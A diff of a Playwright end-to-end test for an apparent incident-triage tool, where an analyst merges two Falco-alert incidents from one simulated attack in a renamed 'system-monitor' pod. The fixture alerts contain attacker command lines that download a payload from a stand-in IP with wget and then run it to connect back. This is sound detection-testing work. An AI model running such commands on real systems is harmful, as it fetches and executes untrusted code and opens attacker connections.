@@ -4,7 +4,7 @@ import { expect, test } from "@playwright/test";
 import { demoPod, login, postFalco, USERS } from "./helpers";
 
 test("an analyst merges two incidents of one attack from the queue", async ({ page, request }) => {
-  const pod = await demoPod(request, "payments", "checkout-web-");
+  const pod = await demoPod(request, "default", "system-monitor-deployment-");
   const event = (rule: string, minutesAgo: number, cmdline: string) => ({
     output: `Notice ${rule}`,
     priority: "Warning",
@@ -13,7 +13,7 @@ test("an analyst merges two incidents of one attack from the queue", async ({ pa
     source: "syscall",
     hostname: "e2e-merge-node",
     tags: ["T1059", "mitre_execution"],
-    output_fields: { "k8s.ns.name": "payments", "k8s.pod.name": pod, "container.name": "web", "proc.name": cmdline.split(" ")[0], "proc.cmdline": cmdline, "user.name": "root" },
+    output_fields: { "k8s.ns.name": "default", "k8s.pod.name": pod, "container.name": "system-monitor", "proc.name": cmdline.split(" ")[0], "proc.cmdline": cmdline, "user.name": "root" },
   });
   // two hours apart: past the correlation window, so two incidents of one workload
   expect((await postFalco(request, [event("E2E merge first stage", 180, "wget -qO /tmp/x http://203.0.113.7/x"), event("E2E merge second stage", 5, "/tmp/x --connect 203.0.113.7")])).accepted).toBe(2);
